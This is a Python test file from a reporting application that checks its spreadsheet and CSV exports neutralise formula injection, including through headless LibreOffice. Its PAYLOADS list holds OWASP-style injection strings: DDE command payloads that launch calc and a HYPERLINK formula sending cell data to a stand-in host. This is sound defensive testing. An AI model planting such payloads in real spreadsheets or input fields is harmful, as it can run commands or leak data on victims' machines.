"""Text a person typed never becomes a live formula in any export: scores export (xlsx, csv), the member's
template, the report workbook and its public edition; a real LibreOffice shows the literal text."""

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from sqlmodel import Session

from acplan.access import Actor
from acplan.cells import csv_cell
from acplan.db import make_engine
from acplan.monitoring import entries, findings, rounds, scoresheet
from acplan.monitoring.users import get_user
from acplan.reporting import build_report
from acplan.xlsx import append_row
from tests.conftest import loaded_store, need
from tests.factories import OPERATOR, TODAY, as_actor, entry_values, open_round, plan_id, project_id, user

# OWASP's CSV-injection examples and a few more; every one is stored as typed (none starts with blank space,
# which the forms trim) and must come back as the same text.
PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"คลิก")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "- ข้อความแบบหัวข้อย่อย",
    "＝1+1",
]


@pytest.fixture(scope="module")
def store(tmp_path_factory, template_root):
    """Round 2567-1 published: each payload is a member's comment on an item and a public finding's texts."""
    engine = make_engine(loaded_store(tmp_path_factory.mktemp("safe") / 's.db', template_root))
    with Session(engine) as s:
        member, sec = user(s, "somchai"), user(s, "sec", "secretary")
        rnd = open_round(s, "2567-1")
        for n, payload in enumerate(PAYLOADS, start=1):
            entries.save_entry(session=s, actor=as_actor(member), member=member, rnd=rnd, project_id=project_id(s, n),
                               entry_in=entries.parse_entry(entry_values(comment=payload)), expected_version=None)
            findings.add_finding(session=s, actor=as_actor(sec), rnd=rnd, finding_in=findings.parse_finding({
                "text": payload, "severity": "low", "project_id": project_id(s, n), "visibility": "public",
                "recommendation": payload, "responsible_unit": payload}))
        entries.submit_entries(session=s, actor=as_actor(member), member=member, rnd=rnd)
        for action in ("close", "publish"):
            rounds.transition(session=s, actor=OPERATOR, plan_id=plan_id(s), code="2567-1", action=action)
        s.commit()
    yield engine
    engine.dispose()


def exports(engine) -> dict[str, bytes]:
    with Session(engine) as s:
        rnd = rounds.get_round(session=s, actor=OPERATOR, plan_id=plan_id(s), code="2567-1")
        somchai = get_user(session=s, actor=OPERATOR, username="somchai")
        out = {"scores.xlsx": scoresheet.export_round(session=s, actor=OPERATOR, rnd=rnd, fmt="xlsx"),
               "scores.csv": scoresheet.export_round(session=s, actor=OPERATOR, rnd=rnd, fmt="csv"),
               "template.xlsx": scoresheet.member_template(session=s, actor=OPERATOR, rnd=rnd, member=somchai)}
        for name, internal, actor in (("report.xlsx", True, OPERATOR), ("public.xlsx", False, Actor.anonymous())):
            out[name] = build_report(session=s, actor=actor, plan_id=plan_id(s), code="2567-1", internal=internal,
                                     fmt="xlsx", today=TODAY)
    return out


def cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


@pytest.mark.parametrize("name", ["scores.xlsx", "template.xlsx", "report.xlsx", "public.xlsx"])
def test_no_workbook_cell_is_a_formula_and_every_payload_is_literal_text(store, name):
    found = cells(exports(store)[name])
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    texts = {c.value for c in found if c.data_type == "s"}
    assert set(PAYLOADS) <= texts
    # A cell that starts like a formula keeps Excel's quote prefix, so editing it does not turn it into one.
    assert all(c.quotePrefix for c in found if c.value in PAYLOADS)


def test_csv_neutralises_every_leading_formula_character(store):
    rows = list(csv.reader(io.StringIO(exports(store)["scores.csv"].decode("utf-8-sig"))))
    comments = {row[-1] for row in rows[1:]}
    assert comments == {"'" + p for p in PAYLOADS}


@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1", "=1+1", "+1", "-1", "@A1"])
def test_leading_blank_and_sign_characters_are_neutralised_too(value):
    assert csv_cell(value) == "'" + value
    wb = Workbook()
    append_row(wb.active, [value, 7, "ข้อความธรรมดา"])
    cell, number, plain = wb.active[1]
    assert (cell.data_type, cell.quotePrefix, number.data_type, plain.quotePrefix) == ("s", True, "n", False)
    assert csv_cell(7) == 7 and csv_cell("ข้อความ - ธรรมดา") == "ข้อความ - ธรรมดา"


def soffice() -> str:
    path = shutil.which("soffice")
    if not path:
        need("LibreOffice is not installed; run: apt-get install -y libreoffice-calc-nogui")
    return path


def libreoffice_csv(tmp_path: Path, data: bytes, name: str) -> str:
    """Every sheet of a workbook as LibreOffice computes and shows it (cells as formatted), as CSV text."""
    tmp_path.mkdir(parents=True, exist_ok=True)
    src = tmp_path / name
    src.write_bytes(data)
    subprocess.run([soffice(), f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1",
                    "--outdir", str(tmp_path / "out"), str(src)], check=True, capture_output=True, timeout=120)
    return "\n".join(p.read_text(encoding="utf-8") for p in sorted((tmp_path / "out").glob("*.csv")))


def test_libreoffice_shows_the_literal_text_of_every_workbook(store, tmp_path):
    for name, data in exports(store).items():
        if not name.endswith(".xlsx"):
            continue
        shown = libreoffice_csv(tmp_path / name.split(".")[0], data, name)
        values = {v for row in csv.reader(io.StringIO(shown)) for v in row}
        assert set(PAYLOADS) <= values, name


def test_libreoffice_opening_the_csv_runs_no_formula(store, tmp_path):
    """LibreOffice evaluates formulas in a CSV it opens; the apostrophe keeps each payload text."""
    src = tmp_path / "scores.csv"
    src.write_bytes(exports(store)["scores.csv"])
    subprocess.run([soffice(), f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--infilter=CSV:44,34,76,1",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(src)],
                   check=True, capture_output=True, timeout=120)
    found = cells((tmp_path / "out" / "scores.xlsx").read_bytes())
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    assert {"'" + p for p in PAYLOADS} <= {c.value for c in found}


def test_a_charts_table_download_neutralises_formulas_too():
    from acplan.ui.views import chart_block

    table = pd.DataFrame({"unit": ["=1+1", "กองคลัง"], "amount_thb": [1000, 2000], "items": [1, 2]})
    block = chart_block("budget_by_unit", table, table, key="by_unit", lang="th")
    rows = list(csv.reader(io.StringIO(block["csv"].decode("utf-8-sig"))))
    assert [r[0] for r in rows] == ["unit", "'=1+1", "กองคลัง"]
